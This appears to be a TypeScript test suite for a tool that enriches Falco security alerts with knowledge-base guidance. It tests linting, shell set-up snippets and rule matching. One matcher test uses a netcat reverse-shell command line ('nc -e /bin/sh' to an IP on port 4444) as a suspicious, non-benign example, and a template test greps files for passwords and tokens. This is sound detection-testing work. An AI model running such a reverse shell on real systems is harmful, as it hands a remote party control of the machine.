import { spawnSync } from 'node:child_process';
import { mkdtempSync, mkdirSync, writeFileSync, readFileSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadCatalogue, parseKbFile } from '../src/kb/load-kb.js';
import { indexKnowledgeBase, loadKnowledgeBase } from '../src/kb/knowledge-base.js';
import { matchEntry } from '../src/kb/match-entry.js';
import { fieldBase, isKnownField, quotedTemplateUses, snippetProblems, templateUseProblems } from '../src/kb/lint-kb.js';
import { benignMatches } from '../src/enrich/enrich.js';
import { fillTemplate } from '../src/enrich/fill-template.js';
import { PREPARE } from '../src/kb/schema.js';
import { checkCommands, jqPrograms } from '../src/kb/check-commands.js';
import { CORPUS, ROOT, alertFrom } from './helpers.js';

const GOOD = readFileSync(join(ROOT, 'rules-kb/stable/terminal-shell-in-container.yaml'), 'utf8');

function tempKb(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'kbtest-'));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  return dir;
}

describe('KB loader', () => {
  it('reports every problem of a file at once, each with its line', () => {
    const bad = GOOD.replace('priority: Notice', 'priority: Urgent')
      .replace('summary:', 'sumary: x\nsummary:')
      .replace("id: T1609", 'id: T9999')
      .replace('url: https://falco.org/docs/reference/rules/default-rules/', 'url: http://falco.org/');
    const lines = bad.split('\n');
    const lineOf = (needle: string): number => lines.findIndex((l) => l.includes(needle)) + 1;
    const { problems } = parseKbFile(bad, 'x.yaml', 'test');
    const got = problems.map((p) => `${p.line}: ${p.message}`);
    expect(got).toContain(`${lineOf('sumary:')}: unknown key "sumary" in (top level)`);
    expect(got.some((g) => g.startsWith(`${lineOf('priority: Urgent')}: priority:`))).toBe(true);
    expect(got.some((g) => g.startsWith(`${lineOf('http://falco.org/')}: references.0.url:`))).toBe(true);
    expect(problems.every((p) => p.file === 'x.yaml')).toBe(true);
  });
  it('runs the static gates on a schema-valid entry', () => {
    const bad = GOOD.replace('id: T1609', 'id: T9999')
      .replace('tactic: execution\n  - id: T9999', 'tactic: impact\n  - id: T9999')
      .replace('crictl inspect {{container.id}}', "crictl inspect '{{container.id}}' {{no.such.field}}");
    const { problems } = parseKbFile(bad, 'x.yaml', 'test');
    const msgs = problems.map((p) => p.message).join('\n');
    expect(msgs).toContain('T9999 is not an ATT&CK Enterprise technique');
    expect(msgs).toContain('T1059.004 is not in tactic impact');
    expect(msgs).toContain('"no.such.field" is not a field that Falco or its plugins define');
    expect(msgs).toContain('a {{field}} stands inside quotes');
  });
  it('warns of a pattern that the linear-time engine cannot run, with its line, and of no other', () => {
    const pattern = "value: '^(ba|da|z)?sh( -[a-z]+)* (\\S*/)?(docker-)?entrypoint(\\.sh)?( |$)'";
    expect(GOOD).toContain(pattern);
    expect(parseKbFile(GOOD, 'x.yaml', 'test').warnings).toEqual([]);
    // Lookaround, a backreference, a large count: each runs on the backtracking engine.
    for (const value of ['^(?!bash)sh', '^(a)\\1$', '^[0-9a-f]{64}$']) {
      const text = GOOD.replace(pattern, () => `value: '${value}'`);
      const line = text.split('\n').findIndex((l) => l.includes(`value: '${value}'`)) + 1;
      const { problems, warnings } = parseKbFile(text, 'x.yaml', 'test');
      expect(problems).toEqual([]);
      expect(warnings).toEqual([{ file: 'x.yaml', line, message: expect.stringContaining(`benign[0]: ${JSON.stringify(value)} runs on V8's backtracking engine`) as unknown as string }]);
    }
    // A small count and nested quantifiers are the linear engine's to run; an invalid pattern is a problem only.
    expect(parseKbFile(GOOD.replace(pattern, () => "value: '^([a-z]+)+[0-9]{4}$'"), 'x.yaml', 'test').warnings).toEqual([]);
    const invalid = parseKbFile(GOOD.replace(pattern, "value: '(unclosed'"), 'x.yaml', 'test');
    expect(invalid.warnings).toEqual([]);
    expect(invalid.problems.map((p) => p.message)).toEqual(['benign[0]: invalid regular expression "(unclosed"']);
  });
  it('writes the set-up a command asks for with prepare in front of its run, and names an unknown one at its line', () => {
    const first = "  - title: List the pod's recent events\n    run: kubectl get events";
    expect(GOOD).toContain(first);
    const asking = (name: string): string => GOOD.replace(first, `  - title: List the pod's recent events\n    prepare: ${name}\n    run: kubectl get events`);
    const { entry, problems } = parseKbFile(asking('container-root'), 'x.yaml', 'test');
    expect(problems).toEqual([]);
    expect(entry?.investigate[0]?.run).toBe(`${PREPARE['container-root']} kubectl get events -n {{k8s.ns.name}} --field-selector involvedObject.name={{k8s.pod.name}} --sort-by=.lastTimestamp`);
    expect(entry?.investigate[0]).not.toHaveProperty('prepare');
    expect(entry?.investigate[1]?.run).toBe(parseKbFile(GOOD, 'x.yaml', 'test').entry?.investigate[1]?.run);
    const text = asking('container');
    const line = text.split('\n').indexOf('    prepare: container') + 1;
    const bad = parseKbFile(text, 'x.yaml', 'test').problems;
    expect(bad.map((p) => p.line)).toEqual([line]);
    expect(bad[0]?.message).toMatch(/^investigate\.0\.prepare: .*"container-pid".*"container-root".*, found "container"$/);
  });
  it("prepare's set-up finds the container's first process through crictl or docker (also when crictl answers without a pid, as from an older cri-dockerd), the node's for a host event, and nothing for a container that is gone or stopped", () => {
    // crictl and docker stand in for the runtimes, printing what theirs print; jq is the real one.
    const jq = spawnSync('sh', ['-c', 'command -v jq'], { encoding: 'utf8' }).stdout.trim();
    expect(jq).not.toBe('');
    const stub = (dir: string, name: string, body: string): void => writeFileSync(join(dir, name), `#!/bin/sh\n${body}`, { mode: 0o755 });
    const node = mkdtempSync(join(tmpdir(), 'prepare-'));
    // A Kubernetes node: crictl knows 'abc 123' (running), 'idle' (stopped: CRI gives pid 0) and 'cri d' (run by a
    // cri-dockerd from before it added the pid to its answer); docker is there too.
    const crictl = `case "$1 $2" in 'inspect abc 123') echo '{"status": {}, "info": {"pid": 4242}}';; 'inspect idle') echo '{"info": {"pid": 0}}';; 'inspect cri d') echo '{"status": {"id": "cri d"}}';; *) echo "container \\"$2\\" not found" >&2; exit 1;; esac\n`;
    stub(node, 'crictl', crictl);
    // Docker prints an array, and for an unknown id `[]` on stdout with its error on stderr.
    const docker = `case "$1 $2" in 'inspect d0c 1') echo '[{"Id": "d0c", "State": {"Pid": 77}}]';; 'inspect cri d') echo '[{"State": {"Pid": 88}}]';; 'inspect stopped') echo '[{"State": {"Pid": 0}}]';; *) echo '[]'; echo "Error: No such object: $2" >&2; exit 1;; esac\n`;
    stub(node, 'docker', docker);
    // A Docker host: no crictl at all, only docker, jq and grep on the PATH; a containerd node without docker.
    const grep = spawnSync('sh', ['-c', 'command -v grep'], { encoding: 'utf8' }).stdout.trim();
    const onlyWith = (runtime: string, body: string): string => {
      const dir = mkdtempSync(join(tmpdir(), `prepare-${runtime}-`));
      stub(dir, runtime, body);
      for (const [name, target] of [['jq', jq], ['grep', grep]] as const) symlinkSync(target, join(dir, name));
      return dir;
    };
    const dockerOnly = onlyWith('docker', docker);
    const criOnly = onlyWith('crictl', crictl);
    const run = (name: keyof typeof PREPARE, containerId: string, path: string): { out: string; err: string; status: number | null } => {
      const setUp = fillTemplate(PREPARE[name], (field) => (field === 'container.id' ? containerId : undefined)).text;
      const r = spawnSync('/bin/bash', ['-c', `${setUp} printf '%s|%s|%s' "$c" "\${pid-unset}" "\${r-unset}"`], { encoding: 'utf8', env: { ...process.env, PATH: path } });
      return { out: r.stdout, err: r.stderr, status: r.status };
    };
    const onNode = `${node}:${process.env.PATH ?? ''}`;
    /** The set-up went on: what it set, and what was said on the way. */
    const ran = (name: keyof typeof PREPARE, containerId: string, path = onNode): { out: string; err: string } => {
      const { out, err, status } = run(name, containerId, path);
      expect(status).toBe(0);
      return { out, err };
    };
    /** A container that is not running stops the command with this line, and nothing after the set-up runs. */
    const stops = (name: keyof typeof PREPARE, containerId: string, path = onNode): { err: string } => {
      const r = run(name, containerId, path);
      expect(r.out).toBe('');
      expect(r.status).not.toBe(0);
      expect(r.err).toMatch(/: the container is not running on this node\n$/);
      return r;
    };
    expect(ran('container-pid', 'host').out).toBe('host|1|unset');
    // crictl's pid is taken without asking docker, which does not know the container.
    expect(ran('container-pid', 'abc 123')).toEqual({ out: 'abc 123|4242|unset', err: '' });
    expect(ran('container-pid', 'd0c 1').out).toBe('d0c 1|77|unset');
    expect(ran('container-pid', 'cri d').out).toBe('cri d|88|unset');
    const onDocker = ran('container-pid', 'd0c 1', dockerOnly);
    expect(onDocker.out).toBe('d0c 1|77|unset');
    expect(onDocker.err).toContain('crictl: command not found');
    for (const gone of ['gone', 'idle', 'stopped']) stops('container-pid', gone);
    expect(stops('container-pid', 'gone', dockerOnly).err).toContain('Error: No such object: gone');
    // Without docker, a container that is gone gets crictl's word for it and nothing about docker.
    expect(ran('container-pid', 'abc 123', criOnly).out).toBe('abc 123|4242|unset');
    expect(stops('container-pid', 'gone', criOnly).err).toMatch(/^container "gone" not found\n[^\n]*: the container is not running on this node\n$/);
    expect(ran('container-root', 'host').out).toBe('host|unset|');
    expect(ran('container-root', 'abc 123').out).toBe('abc 123|unset|/proc/4242/root');
    expect(ran('container-root', 'd0c 1', dockerOnly).out).toBe('d0c 1|unset|/proc/77/root');
    // Not /proc//root, under which a find printed nothing, as if nothing had been found.
    for (const gone of ['gone', 'idle', 'stopped']) stops('container-root', gone);
    // Typed at an interactive shell, the rest of the line is dropped and the shell goes on.
    for (const name of ['container-pid', 'container-root'] as const) {
      const setUp = fillTemplate(PREPARE[name], (field) => (field === 'container.id' ? 'gone' : undefined)).text;
      const r = spawnSync('bash', ['--norc', '--noprofile', '-i'], { input: `${setUp} echo AFTER\necho NEXT\n`, encoding: 'utf8', env: { PATH: onNode, HOME: tmpdir() } });
      expect(r.stdout).not.toContain('AFTER');
      expect(r.stdout).toContain('NEXT');
      expect(r.stderr).toContain(': the container is not running on this node\n');
    }
  });
  it("prepare's Okta set-up stops the command, in a script and on an interactive line, unless both variables are set", () => {
    const run = (env: Record<string, string>, interactive: boolean): { out: string; err: string } => {
      const line = `${PREPARE['okta-api']} echo CALLED "$OKTA_DOMAIN"; echo AFTER`;
      const base = { PATH: process.env.PATH ?? '', HOME: tmpdir(), ...env };
      const r = interactive
        ? spawnSync('bash', ['--norc', '--noprofile', '-i'], { input: `${line}\n`, encoding: 'utf8', env: base })
        : spawnSync('bash', ['-c', line], { encoding: 'utf8', env: base });
      return { out: r.stdout, err: r.stderr };
    };
    for (const interactive of [false, true]) {
      const none = run({}, interactive);
      expect(none.out).not.toContain('CALLED');
      expect(none.out).not.toContain('AFTER');
      expect(none.err).toContain('OKTA_DOMAIN: set OKTA_DOMAIN to your Okta domain');
      const noToken = run({ OKTA_DOMAIN: 'example.okta.com' }, interactive);
      expect(noToken.out).not.toContain('CALLED');
      expect(noToken.err).toContain('OKTA_API_TOKEN: set OKTA_API_TOKEN to an Okta API token');
      expect(run({ OKTA_DOMAIN: 'example.okta.com', OKTA_API_TOKEN: 't' }, interactive).out).toContain('CALLED example.okta.com\nAFTER');
    }
  });
  it('rejects two entries claiming one rule, and YAML syntax errors with their line', () => {
    const dir = tempKb({ 'a.yaml': GOOD, 'b/c.yaml': GOOD, 'd.yaml': 'rule: [unclosed\n' });
    const { problems, entries } = loadCatalogue(dir, 'test');
    expect(entries).toHaveLength(2);
    expect(problems.map((p) => p.message)).toContain(`"Terminal shell in container" is already claimed by ${join(dir, 'a.yaml')}`);
    expect(problems.some((p) => p.file.endsWith('d.yaml') && p.message.startsWith('YAML:'))).toBe(true);
  });
  it('helpers: quoted templates, snippets, field names', () => {
    expect(quotedTemplateUses(`jq --arg u {{ka.user.name}} '.x == $u'`)).toEqual([]);
    expect(quotedTemplateUses(`grep "{{proc.name}}" f`)).toHaveLength(1);
    expect(snippetProblems('yaml', 'kind: Pod\nmetadata: {name: x}')).toEqual(['Kubernetes snippet needs both apiVersion and kind']);
    expect(snippetProblems('json', '{"a":')).toHaveLength(1);
    expect(fieldBase('proc.aname[2]')).toBe('proc.aname');
    expect(fieldBase('evt.arg.target')).toBe('evt.arg');
    expect(isKnownField('alert.hostname')).toBe(true);
    expect(isKnownField('proc.nope')).toBe(false);
  });
});

describe('jq programs of commands', () => {
  it('reads each jq program as bash hands it over, with the variables its command defines', () => {
    expect(jqPrograms(`kubectl get pods -A -o json | jq -r --arg ns "$n" '.items[] | select(.metadata.namespace == $ns) | .metadata.name' 2>/dev/null`)).toEqual([
      { program: '.items[] | select(.metadata.namespace == $ns) | .metadata.name', vars: ['--arg', 'ns', 'x'] },
    ]);
    // In a command substitution; in double quotes, with escaped quotes; after an option's value and a redirection.
    expect(jqPrograms(`pid=$(crictl inspect "$c" | jq -r .info.pid); jq --indent 4 --argjson n 3 2>&1 "select(.a == \\"b\\") | \\$n" f`)).toEqual([
      { program: '.info.pid', vars: [] },
      { program: 'select(.a == "b") | $n', vars: ['--arg', 'n', 'x'] },
    ]);
    // jq as a word of another command, in a message, or with its program in a file: no program here.
    expect(jqPrograms(`echo "install jq first"; grep -c jq notes.txt; jq -f prog.jq data.json`)).toEqual([]);
  });
  it('names the command whose jq program does not compile, and only that one', () => {
    // The entry's other jq programs (the prepare set-up, the exec roles) compile with it in one jq run.
    const broken = GOOD.replace("jq -r '.items[] | select(any(", "jq -r '.items[] | selec(any(");
    expect(broken).not.toBe(GOOD);
    const dir = tempKb({ 'a.yaml': broken });
    const { entries, problems } = loadCatalogue(dir, 'test');
    expect(problems).toEqual([]);
    const shell = checkCommands(entries);
    expect(shell.skipped).toEqual([]);
    // At the line of that step's run in the file, not the file's first line.
    const line = broken.split('\n').findIndex((l) => l.includes('selec(any(')) + 1;
    expect(line).toBeGreaterThan(1);
    expect(shell.problems.map((p) => `${p.file}:${p.line}: ${p.message}`)).toEqual([`${join(dir, 'a.yaml')}:${line}: remediate[1]: jq: selec/1 is not defined`]);
    expect(checkCommands(loadCatalogue(tempKb({ 'a.yaml': GOOD }), 'test').entries).problems).toEqual([]);
  }, 60_000);
});

describe('template uses', () => {
  it('asks for |ere where pgrep or pkill read a field as their pattern, and -F where grep would', () => {
    expect(templateUseProblems('pkill -KILL -x {{proc.name}}')).toEqual(['pkill reads {{proc.name}} as a regular expression: write {{proc.name|ere}}']);
    // -u takes a user, not a pattern.
    expect(templateUseProblems('pkill -KILL -u {{user.name}} -x {{proc.name|ere}}')).toEqual([]);
    expect(templateUseProblems('n={{proc.name}}; lsof -nP -p "$(pgrep -d, -x "$n")"')).toEqual(['pgrep reads $n, set from {{proc.name}}, as a regular expression: write n={{proc.name|ere}}']);
    expect(templateUseProblems('n={{proc.name|ere}}; lsof -nP -p "$(pgrep -d, -x "$n")"')).toEqual([]);
    expect(templateUseProblems('ps -ef | grep -e {{proc.name}}')).toEqual(['grep reads {{proc.name}} as a regular expression: add -F before it']);
    expect(templateUseProblems('ps -ef | grep -B3 -F -e {{proc.name}}')).toEqual([]);
    // grep reads a regex only as its pattern: the first operand, or the word after -e; a file operand is a name.
    expect(templateUseProblems(`grep -nEi 'pass(word)?|token' "$r"{{fd.name}}`)).toEqual([]);
    expect(templateUseProblems('grep -f patterns.txt {{fd.name}}')).toEqual([]);
    expect(templateUseProblems("ps -ef | grep -E 'a|(b)' | grep {{proc.name}}")).toEqual(['grep reads {{proc.name}} as a regular expression: add -F before it']);
    expect(templateUseProblems("grep -A 2 '^'{{proc.name}} /var/log/x")).toEqual(['grep reads {{proc.name}} as a regular expression: add -F before it']);
    expect(templateUseProblems('grep -rn -- {{proc.name}} /etc')).toEqual(['grep reads {{proc.name}} as a regular expression: add -F before it']);
    // An option after the pattern is read only by a grep that reorders its arguments: GNU grep does, but not
    // when POSIXLY_CORRECT is set, and POSIX does not ask it of others.
    expect(templateUseProblems('grep {{proc.name}} -F /etc/passwd')).toEqual(['grep reads {{proc.name}} as a regular expression: add -F before it']);
    // pgrep inside a command substitution in quotes is still pgrep.
    expect(templateUseProblems('kill "$(pgrep -x {{proc.name}})"')).toEqual(['pgrep reads {{proc.name}} as a regular expression: write {{proc.name|ere}}']);
    expect(templateUseProblems('kubectl delete pod -n {{k8s.ns.name}} {{k8s.pod.name}}')).toEqual([]);
    // lsof -c matches a prefix, and reads ^ as "all but": only an escaped pattern between /^ and $/ is exact.
    expect(templateUseProblems('lsof -t -a -c {{proc.name}} -i :{{fd.rport}} | xargs -r kill')).toEqual(['lsof -c takes {{proc.name}} as the start of a name, and a leading ^ as "all but": write -c /^{{proc.name|ere}}$/']);
    expect(templateUseProblems('lsof -t -a -c /^{{proc.name}}$/ -i :80')).toHaveLength(1);
    expect(templateUseProblems('lsof -t -a -c /^{{proc.name|ere}}$/ -i :{{fd.rport}}')).toEqual([]);
  });
  it('names braces that are not a field template', () => {
    expect(templateUseProblems('pgrep -x {{proc.name|glob}}')).toEqual(['"{{proc.name|glob}}" is not a field template: write {{field}} or {{field|ere}}']);
  });
});

describe('matcher', () => {
  it('matches by exact name with case and spacing forgiven, and by alias', async () => {
    const kb = await loadKnowledgeBase();
    const a = alertFrom({ rule: 'terminal  SHELL in container', priority: 'Notice' });
    expect(matchEntry(a, kb)).toMatchObject({ how: 'exact', entry: { rule: 'Terminal shell in container' } });
    const dir = tempKb({ 'mine.yaml': GOOD.replace('rule: Terminal shell in container', 'rule: Shell in pod\naliases: [Our old shell rule]') });
    const withAlias = await loadKnowledgeBase([dir]);
    const b = alertFrom({ rule: 'our OLD shell rule', priority: 'Notice' });
    expect(matchEntry(b, withAlias)).toMatchObject({ how: 'alias', entry: { rule: 'Shell in pod' } });
  });
  it('gives the seed alert (custom rule) the shell-in-container entry, by tags and fields, and its benign hint', async () => {
    const kb = await loadKnowledgeBase();
    const seed = alertFrom(readFileSync(`${CORPUS}seed-alert.json`, 'utf8'));
    const m = matchEntry(seed, kb);
    expect(m.how).toBe('similar');
    expect(m.entry?.rule).toBe('Terminal shell in container');
    expect(m.signals.join('; ')).toMatch(/tags .*shell/);
    expect(m.signals.join('; ')).toMatch(/container/);
    expect(benignMatches(m.entry, seed).map((b) => b.pattern)).toContain("The shell runs the image's own entrypoint script");
  });
  it('knows a Debian maintainer script by its path, file name and ending, without crossing a directory', async () => {
    const kb = await loadKnowledgeBase();
    const benign = (rule: string, pcmdline: string): string[] => {
      const a = alertFrom({ rule, priority: 'Error', source: 'syscall', output_fields: { 'proc.pcmdline': pcmdline } });
      return benignMatches(matchEntry(a, kb).entry, a).map((b) => b.pattern);
    };
    const dpkg = 'Debian maintainer scripts during a package install';
    for (const rule of ['Write below binary dir', 'Modify binary dirs']) {
      expect(benign(rule, '/bin/sh /var/lib/dpkg/info/coreutils.postinst configure 9.1-1')).toContain(dpkg);
      expect(benign(rule, 'sh -e /var/lib/dpkg/info/libc-bin:amd64.prerm upgrade')).toContain(dpkg);
      expect(benign(rule, 'sh /var/lib/dpkg/info/../../../tmp/x.postinst')).not.toContain(dpkg);
      expect(benign(rule, 'sh /var/lib/dpkg/info/coreutils.list')).not.toContain(dpkg);
    }
  });
  it('knows a port probe (nc -z, one host, one port) from a scan, whatever the other options', async () => {
    const kb = await loadKnowledgeBase();
    const benign = (rule: string, cmdline: string): boolean => {
      // proc.tty 0: no terminal, as the host rule's pattern also asks.
      const a = alertFrom({ rule, priority: 'Notice', source: 'syscall', output_fields: { 'proc.name': cmdline.split(' ')[0], 'proc.cmdline': cmdline, 'proc.tty': 0 } });
      return benignMatches(matchEntry(a, kb).entry, a).some((b) => b.pattern.startsWith('Port probe'));
    };
    for (const rule of ['Launch Suspicious Network Tool in Container', 'Launch Suspicious Network Tool on Host']) {
      for (const probe of ['nc -z db 5432', 'nc -zv -w 5 redis-master 6379', 'ncat -v -z 10.0.0.7 443', 'nc -w5 -vz host.example 80']) expect(benign(rule, probe), probe).toBe(true);
      for (const other of ['nc -z host 1-1000', 'nc -v host 80', 'nc -l -p 4444', 'nc -e /bin/sh 10.0.0.1 4444', 'nc -z host 80 81']) expect(benign(rule, other), other).toBe(false);
    }
  });
  it('a user catalogue overrides a built-in entry of the same rule', async () => {
    const dir = tempKb({ 'mine.yaml': GOOD.replace('summary: Someone opened', 'summary: OURS. Someone opened') });
    const kb = await loadKnowledgeBase([dir]);
    const m = matchEntry(alertFrom({ rule: 'Terminal shell in container', priority: 'Notice' }), kb);
    expect(m.entry?.summary).toMatch(/^OURS/);
    expect(m.entry?.origin).toBe(dir);
  });
  it('falls back to the generic entry of the source when nothing is close', () => {
    const generic = { ...parseKbFile(GOOD, 'g.yaml', 'test').entry!, rule: 'Generic: syscall', kind: 'generic' as const, applies: { source: 'syscall', tags_any: [] } };
    const kb = indexKnowledgeBase([generic], ['test']);
    const m = matchEntry(alertFrom({ rule: 'zzz qqq', priority: 'Notice', source: 'syscall' }), kb);
    expect(m).toMatchObject({ how: 'generic', signals: ['source syscall'] });
  });
});

describe('custom rules from the shared corpus', () => {
  it('every custom-rule alert gets an entry, and the report says how it was chosen', async () => {
    const kb = await loadKnowledgeBase();
    const lines = readFileSync(`${CORPUS}public-alerts.jsonl`, 'utf8').split('\n').filter(Boolean);
    const official = new Set((JSON.parse(readFileSync(`${ROOT}../shared/falco-rules/index.json`, 'utf8')) as { rules: { name: string }[] }).rules.map((r) => r.name.toLowerCase()));
    const custom = lines.map((l, i) => alertFrom(l, 'public-alerts.jsonl', i + 1)).filter((a) => !official.has(a.rule.toLowerCase()) && !a.rule.startsWith('Falco internal'));
    expect(custom.map((a) => a.rule).sort()).toEqual(
      ['Detect bash in a container', 'Memory dump process in Container [custom]', 'Test rule', 'Test rule', 'Test rule', 'Unexpected file access', 'open_from_cat', 'open_from_cat', 'outbound connection', 'ssh tunneling/ssh port forwarding'].sort(),
    );
    for (const a of custom) {
      const m = matchEntry(a, kb);
      expect(m.entry, a.rule).toBeDefined();
      expect(['similar', 'generic']).toContain(m.how);
      expect(m.signals.length, a.rule).toBeGreaterThan(0);
      if (m.how === 'similar') expect(['high', 'medium', 'low']).toContain(m.confidence);
    }
    const byRule = (rule: string) => matchEntry(custom.find((a) => a.rule === rule)!, kb);
    // A bash-in-container rule lands on the shell-in-container guidance; ssh port forwarding on network guidance.
    expect(byRule('Detect bash in a container').entry?.rule).toMatch(/shell/i);
    expect(byRule('ssh tunneling/ssh port forwarding').signals.join(' ')).toMatch(/network/);
  });
});
